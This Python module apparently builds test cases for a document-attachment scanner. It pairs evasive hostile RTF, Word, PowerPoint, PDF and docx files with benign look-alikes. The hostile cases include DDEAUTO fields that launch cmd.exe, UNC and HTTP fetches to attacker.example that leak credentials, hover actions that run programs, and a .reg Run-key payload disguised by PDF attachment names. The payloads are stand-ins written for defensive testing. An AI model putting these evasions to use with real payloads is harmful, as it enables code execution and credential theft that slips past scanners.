"""Hostile evasive attachments and their benign look-alikes, third red-team round, built in code
like `support.evasions` and `support.evasions_more`, whose builders they reuse.

The classes, each a way real readers and attachguard once read a file differently:

- RTF field text: the blank that ends a control word is no text (``DD{\\insrsid1 EA}UTO`` is
  DDEAUTO), ``\\ucN`` says how many fallback characters follow a ``\\uN`` (none, or two),
  Word reads the ``\\*\\ud`` half of a ``\\upr`` group, ``\\tab`` separates the field type from
  its arguments, a quote ends the type, and a fetching field may put its switches first;
- RTF linked pictures: a picture shape whose ``pibName`` is on another machine and whose
  ``pibFlags`` say it is linked, so that Word fetches it when the document opens;
- Word 97-2003 fetching fields: INCLUDEPICTURE, INCLUDETEXT and LINK fields in a .doc, judged
  by the rule a .docx gets;
- PowerPoint text hover: a text run's mouse-over action (``a:hlinkMouseOver``, where a shape
  has ``a:hlinkHover``) that starts a program, runs a macro or opens a link;
- PowerPoint 97-2003 action settings: a .ppt shape that starts a program, runs a macro or an
  object verb on click or mouse-over, or opens a link on another machine on mouse-over (the rule
  a .pptx gets, read from the InteractiveInfo records);
- PDF URI actions to another machine: a URI action whose URI is ``file://host/...`` or a UNC
  path (opening it sends the reader's Windows credentials there, as a GoToR does);
- PDF attachment names readers disagree on: a file specification whose /UF names a text file
  while its /F or /DOS name (which other readers save it under) is a .reg or .scf, or whose /UF
  is empty;
- padded relationship targets: an external template whose URL is preceded by a Unicode blank.

Payloads are harmless stand-ins, as in `support.evasions`.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from functools import partial

from support.evasions import (
    CASES,
    Case,
    ole_tree,
    page_objects,
    pdf,
    presentation,
    unzipped,
    zipped,
)
from support.evasions_more import MORE_CASES, _doc_text, _linked_page, _rtf
from support.oletools_data import docx, rels_xml

__all__ = ["THIRD_CASES"]

Row = tuple[str, str, Callable[[], bytes], str | None]
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# -- RTF field text -----------------------------------------------------------------------------


def _rtf_field(instruction: bytes, shown: bytes = b"x") -> bytes:
    return _rtf(b"{\\field{\\*\\fldinst " + instruction + b"}{\\fldrslt " + shown + b"}}\\par")


_CMD = rb' c:\\windows\\system32\\cmd.exe "/k calc.exe"'
_UNC = rb'"\\\\\\\\attacker.example\\\\s\\\\p.png"'
RF = "form.rtf"
RTF_FIELD_TEXT: list[Row] = [
    ("rtf-dde-split-by-group", RF, partial(_rtf_field, rb"DD{\insrsid1 EA}UTO" + _CMD), "DDE"),
    ("rtf-dde-control-word-inside", RF, partial(_rtf_field, rb"DDE\cf1 AUTO" + _CMD), "DDE"),
    ("rtf-dde-unicode-no-fallback", RF, partial(_rtf_field, rb"\uc0\u68DEAUTO" + _CMD), "DDE"),
    ("rtf-dde-unicode-two-fallbacks", RF, partial(_rtf_field, rb"\uc2\u68 ??DEAUTO" + _CMD),
     "DDE"),
    ("rtf-dde-unicode-blank-then-fallback", RF, partial(_rtf_field, rb"\u68 ?DEAUTO" + _CMD),
     "DDE"),
    ("rtf-dde-in-unicode-alternative", RF,
     partial(_rtf_field, rb"{\upr{ PAGE }{\*\ud{ DDEAUTO" + _CMD + rb"}}}"), "DDE"),
    ("rtf-dde-tab-after-type", RF,
     partial(_rtf_field, rb"DDEAUTO\tab c:\\windows\\system32\\cmd.exe"), "DDE"),
    ("rtf-dde-quote-after-type", RF,
     partial(_rtf_field, rb'DDEAUTO"c:\\windows\\system32\\cmd.exe" "/k calc.exe"'), "DDE"),
    ("rtf-includepicture-switch-first", RF,
     partial(_rtf_field, rb"INCLUDEPICTURE \\d " + _UNC), "EXTERNAL_LINK"),
    ("rtf-page-split-by-group", RF, partial(_rtf_field, rb"PA{\b GE} \\* MERGEFORMAT", b"1"), None),
    # as Word writes a field: the instruction in a group of run properties
    ("rtf-hyperlink-as-word-writes-it", RF,
     partial(_rtf_field, rb'{\rtlch\fcs1 \af0 \ltrch\fcs0 \insrsid7 HYPERLINK '
             rb'"https://tracking.example/4711" }', b"track"), None),
    ("rtf-page-in-unicode-alternative", RF,
     partial(_rtf_field, rb"{\upr{ DDEAUTO" + _CMD + rb"}{\*\ud{ PAGE }}}", b"1"), None),
    ("rtf-unicode-text-in-ref", RF,
     partial(_rtf_field, rb" REF Gr\uc1\u252 u\uc0\u223 e \\h", b"x"), None),
]  # fmt: skip


def _rtf_picture_shape(name: bytes, flags: int) -> bytes:
    """A floating picture shape whose picture is named ``name`` (pibName), with ``flags``
    (pibFlags: 0x2 a URL, 0x8 linked to the file) and a small embedded preview."""
    preview = rb"{\pict\pngblip\picw10\pich10 89504e470d0a1a0a}"
    return _rtf(
        rb"{\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom2000\shpwr3\shpz0"
        rb"{\sp{\sn shapeType}{\sv 75}}{\sp{\sn pib}{\sv " + preview + rb"}}"
        rb"{\sp{\sn pibName}{\sv " + name + rb"}}{\sp{\sn pibFlags}{\sv %d}}}}\par" % flags
    )


RTF_LINKED_PICTURES: list[Row] = [
    ("rtf-picture-linked-to-share", RF,
     partial(_rtf_picture_shape, rb"\\\\attacker.example\\s\\logo.png", 10), "EXTERNAL_LINK"),
    ("rtf-picture-linked-to-url", RF,
     partial(_rtf_picture_shape, b"http://attacker.example/logo.png", 2), "EXTERNAL_LINK"),
    ("rtf-picture-linked-to-local-file", RF,
     partial(_rtf_picture_shape, rb"C:\\Users\\agent\\Pictures\\logo.png", 10), None),
    ("rtf-picture-embedded-with-name", RF, partial(_rtf_picture_shape, b"logo.png", 0), None),
]  # fmt: skip


# -- Word 97-2003 fetching fields ---------------------------------------------------------------

DF = "form.doc"
WORD97_FETCHES: list[Row] = [
    ("doc-includepicture-http", DF,
     partial(_doc_text, 'Hi \x13 INCLUDEPICTURE "http://attacker.example/p.png" \\d \x14\x15'),
     "EXTERNAL_LINK"),
    ("doc-includetext-unc", DF,
     partial(_doc_text, 'Hi \x13 INCLUDETEXT "\\\\\\\\attacker.example\\\\s\\\\t.docx" \x14x\x15'),
     "EXTERNAL_LINK"),
    ("doc-link-unc-unicode-piece", DF,
     partial(_doc_text, 'Hi \x13 LINK Excel.Sheet.8 "\\\\\\\\attacker.example\\\\s\\\\b.xls" '
             '"Sheet1!R1C1" \\a \x14x\x15', True), "EXTERNAL_LINK"),
    ("doc-hyperlink-https", DF,
     partial(_doc_text, 'Hi \x13 HYPERLINK "https://tracking.example/4711" \x14track\x15'), None),
    ("doc-pageref-and-date", DF,
     partial(_doc_text, 'See page \x13 PAGEREF _Ref1 \\h \x142\x15 of \x13 DATE \\@ "d MMMM" '
             "\x141 March\x15"), None),
]  # fmt: skip


# -- PowerPoint text hover ----------------------------------------------------------------------


def _text_action(element: str, action: str, target: str | None = None) -> bytes:
    """A presentation whose button text (a run) runs ``action`` on click (hlinkClick) or on
    mouse-over (hlinkMouseOver); ``target`` is the hyperlink relationship's external target."""
    rel = 'r:id="rId1"' if target else 'r:id=""'
    members = unzipped(presentation("", [("hyperlink", target, True)] if target else []))
    run = f'<a:r><a:rPr lang="en-US"><a:{element} {rel} action="{action}"/></a:rPr><a:t>Track'
    return zipped(
        [(n, d.replace(b"<a:r><a:t>Track", run.encode())) for n, d in members]  # the slide
    )


_CALC = "file:///C:/Windows/System32/calc.exe"
PF = "deck.pptx"
PPTX_TEXT_HOVER: list[Row] = [
    ("ppt-text-hover-program", PF,
     partial(_text_action, "hlinkMouseOver", "ppaction://program", _CALC), "OFFICE_ACTION"),
    ("ppt-text-hover-macro", PF,
     partial(_text_action, "hlinkMouseOver", "ppaction://macro?name=Module1.Run"),
     "OFFICE_ACTION"),
    ("ppt-text-hover-web", PF,
     partial(_text_action, "hlinkMouseOver", "", "https://attacker.example/t"), "EXTERNAL_LINK"),
    ("ppt-text-hover-next-slide", PF,
     partial(_text_action, "hlinkMouseOver", "ppaction://hlinkshowjump?jump=nextslide"), None),
    ("ppt-text-click-web", PF,
     partial(_text_action, "hlinkClick", "", "https://tracking.example/4711"), None),
]  # fmt: skip


# -- PowerPoint 97-2003 action settings ---------------------------------------------------------


def _record(kind: int, body: bytes = b"", instance: int = 0, container: bool = False) -> bytes:
    """A PowerPoint (or OfficeArt) record: version 0xF for a container, instance, type, length."""
    head = (instance << 4) | (0xF if container else 0)
    return struct.pack("<HHI", head, kind, len(body)) + body


def _ppt(action: int, hover: bool, link: str = "") -> bytes:
    """A one-slide PowerPoint 97 presentation (persist directory, user edit, current user) whose
    shape has an action setting (InteractiveInfoAtom ``action``: 1 macro, 2 program, 3 jump, 4
    hyperlink, 5 OLE verb) on click or on mouse-over; ``link`` is hyperlink 1's target."""
    atom = struct.pack("<IIBBBBB3x", 0, 1 if link else 0, action, 0, 0, 0, 0xFF)
    info = _record(0x0FF2, _record(0x0FF3, atom), int(hover), True)
    shape = _record(0xF004, _record(0xF00A, struct.pack("<II", 1025, 0xA00)) + _record(
        0xF011, info, container=True), container=True)  # fmt: skip
    drawing = _record(0xF002, _record(0xF003, shape, container=True), container=True)
    slide = _record(0x03EE, _record(0x03EF, bytes(24)) + _record(0x040C, drawing, container=True),
                    container=True)  # fmt: skip
    objects = b""
    if link:
        target = _record(0x0FBA, link.encode("utf-16-le"), 1)
        hyperlink = _record(0x0FD7, _record(0x0FD3, struct.pack("<I", 1)) + target, container=True)
        objects = _record(0x0409, _record(0x040A, struct.pack("<I", 1)) + hyperlink, container=True)
    document = _record(0x03E8, _record(0x03E9, bytes(40)) + objects, container=True)
    persist = _record(0x1772, struct.pack("<III", (2 << 20) | 1, 0, len(document)))
    directory = len(document) + len(slide)
    edit = _record(0x0FF5, struct.pack("<IHBBIIIIHH", 256, 0, 0, 3, 0, directory, 1, 3, 1, 0))
    user = struct.pack("<IIIHHBBH", 20, 0xE391C05F, directory + len(persist), 5, 0x03F4, 3, 0, 0)
    return ole_tree({
        "PowerPoint Document": document + slide + persist + edit,
        "Current User": _record(0x0FF6, user + b"agent" + struct.pack("<I", 8)),
    })  # fmt: skip


DECK = "deck.ppt"
PPT_ACTIONS: list[Row] = [
    ("ppt97-program-on-hover", DECK, partial(_ppt, 2, True), "OFFICE_ACTION"),
    ("ppt97-program-on-click", DECK, partial(_ppt, 2, False), "OFFICE_ACTION"),
    ("ppt97-macro-on-hover", DECK, partial(_ppt, 1, True), "OFFICE_ACTION"),
    ("ppt97-object-verb-on-click", DECK, partial(_ppt, 5, False), "OFFICE_ACTION"),
    ("ppt97-unc-link-on-hover", DECK,
     partial(_ppt, 4, True, "\\\\attacker.example\\s\\x.ppt"), "EXTERNAL_LINK"),
    ("ppt97-next-slide-on-hover", DECK, partial(_ppt, 3, True), None),
    ("ppt97-web-link-on-click", DECK, partial(_ppt, 4, False, "https://tracking.example/4711"),
     None),
    ("ppt97-no-action", DECK, partial(_ppt, 0, False), None),
]  # fmt: skip


# -- PDF URI actions to another machine ---------------------------------------------------------

PDF_URI: list[Row] = [
    ("pdf-uri-file-host", "invoice.pdf",
     partial(_linked_page, b"<< /S /URI /URI (file://attacker.example/share/terms.pdf) >>"),
     "EXTERNAL_LINK"),
    ("pdf-uri-unc-path", "invoice.pdf",
     partial(_linked_page, b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\terms.pdf) >>"),
     "EXTERNAL_LINK"),
    ("pdf-uri-mailto", "invoice.pdf",
     partial(_linked_page, b"<< /S /URI /URI (mailto:support@shop.example) >>"), None),
    ("pdf-uri-local-file", "invoice.pdf",
     partial(_linked_page, b"<< /S /URI /URI (file:///C:/Users/Public/terms.pdf) >>"), None),
]  # fmt: skip


# -- PDF attachment names readers disagree on ---------------------------------------------------


def _attached_as(names: bytes, data: bytes) -> bytes:
    """A one-page PDF with ``data`` attached by a file specification giving ``names`` (its
    /UF, /F, /DOS... entries), listed in the EmbeddedFiles name tree as "attachment"."""
    packed = zlib.compress(data)
    catalog = b" /Names << /EmbeddedFiles << /Names [(attachment) 6 0 R] >> >>"
    stream = b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    return pdf([
        *page_objects(catalog),
        (6, b"<< /Type /Filespec %s /EF << /F 7 0 R >> >>" % names),
        (7, stream % (len(packed), packed)),
    ])  # fmt: skip


_REG = (
    b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft"
    b'\\Windows\\CurrentVersion\\Run]\r\n"update"="calc.exe"\r\n'
)
_SCF = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker.example\\s\\x.ico\r\n"
_XML_INVOICE = b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:x"/>'
PDF_ATTACHMENT_NAMES: list[Row] = [
    ("pdf-attached-unicode-name-txt-plain-name-reg", "invoice.pdf",
     partial(_attached_as, b"/UF (notes.txt) /F (fix.reg)", _REG), "EXECUTABLE"),
    ("pdf-attached-empty-unicode-name", "invoice.pdf",
     partial(_attached_as, b"/UF () /F (open.scf)", _SCF), "EXECUTABLE"),
    ("pdf-attached-dos-name-reg", "invoice.pdf",
     partial(_attached_as, b"/F (notes.txt) /DOS (FIX.REG)", _REG), "EXECUTABLE"),
    ("pdf-attached-same-name-twice", "invoice.pdf",
     partial(_attached_as, b"/F (factur-x.xml) /UF (factur-x.xml)", _XML_INVOICE), None),
    ("pdf-attached-unicode-and-plain-name", "invoice.pdf",
     partial(_attached_as, b"/UF <FEFF004C00E4006E0064002E007400780074> /F (Land.txt)",
             b"Delivered on the 14th.\r\n"), None),
]  # fmt: skip


# -- padded relationship targets ----------------------------------------------------------------


def _template(target: str) -> bytes:
    """A letter attached to the template ``target`` (an external relationship of settings)."""
    settings = (
        f'<?xml version="1.0"?><w:settings xmlns:w="{_W}" xmlns:r="{_REL}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    ).encode()
    parts = {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": rels_xml([("attachedTemplate", target, True)]),
    }
    return docx(rels=[("settings", "settings.xml", False)], parts=parts)


PADDED_TARGETS: list[Row] = [
    ("docx-template-ideographic-space-url", "letter.docx",
     partial(_template, "\u3000https://attacker.example/t.dotm"), "EXTERNAL_LINK"),
    ("docx-template-nbsp-unc", "letter.docx",
     partial(_template, "\u00a0\\\\attacker.example\\t\\normal.dotm"), "EXTERNAL_LINK"),
    ("docx-template-local-normal", "letter.docx",
     partial(_template, "file:///C:/Users/agent/AppData/Roaming/Microsoft/Templates/Normal.dotm"),
     None),
    ("docx-template-beside-document", "letter.docx", partial(_template, "Letterhead.dotx"), None),
]  # fmt: skip

_TABLES = {
    "rtf-field-text": RTF_FIELD_TEXT,
    "rtf-linked-pictures": RTF_LINKED_PICTURES,
    "word97-fetching-fields": WORD97_FETCHES,
    "pptx-text-hover": PPTX_TEXT_HOVER,
    "ppt97-actions": PPT_ACTIONS,
    "pdf-uri-network": PDF_URI,
    "pdf-attachment-names": PDF_ATTACHMENT_NAMES,
    "padded-targets": PADDED_TARGETS,
}

THIRD_CASES: list[Case] = [
    Case(case_id, cls, name, build, expect is not None, expect)
    for cls, rows in _TABLES.items()
    for case_id, name, build, expect in rows
]

assert not {case.id for case in THIRD_CASES} & {case.id for case in CASES + MORE_CASES}
